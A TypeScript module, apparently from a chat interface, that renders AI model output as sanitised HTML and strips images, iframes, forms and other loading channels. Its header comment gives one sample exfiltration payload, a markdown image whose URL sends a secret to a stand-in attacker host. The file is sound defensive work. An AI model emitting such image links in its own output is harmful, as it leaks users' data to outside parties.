/**
 * Model output → safe HTML. Markdown is rendered by marked and sanitised by DOMPurify; images
 * become plain links (a remote image is an exfiltration channel: `![x](https://evil/?q=SECRET)`
 * would send data the moment it renders), and anything that can load or run something —
 * iframes, forms, styles, srcset, SVG — is removed. The CSP blocks remote loads as well.
 */
import DOMPurify from 'dompurify';
import { Marked, type Tokens } from 'marked';

const marked = new Marked({
  gfm: true,
  breaks: false,
  renderer: {
    image({ href, text }: Tokens.Image): string {
      const label = escapeHtml(text || href);
      return `<a href="${escapeHtml(href)}" class="image-link" title="Image (not loaded)">[image: ${label}]</a>`;
    },
  },
});

const purifyConfig = {
  FORBID_TAGS: [
    'img',
    'picture',
    'source',
    'video',
    'audio',
    'iframe',
    'frame',
    'object',
    'embed',
    'form',
    'input',
    'button',
    'textarea',
    'select',
    'style',
    'link',
    'meta',
    'base',
    'svg',
    'math',
  ],
  FORBID_ATTR: ['style', 'srcset', 'src', 'background', 'poster', 'action', 'formaction', 'xlink:href'],
  ALLOWED_URI_REGEXP: /^(?:https?|mailto):/i,
};

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A') {
    node.removeAttribute('target');
    node.setAttribute('rel', 'noreferrer noopener');
  }
});

export function renderMarkdown(markdown: string): string {
  const html = marked.parse(markdown, { async: false });
  return DOMPurify.sanitize(html, purifyConfig);
}

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (char) => `&#${char.charCodeAt(0)};`);
}
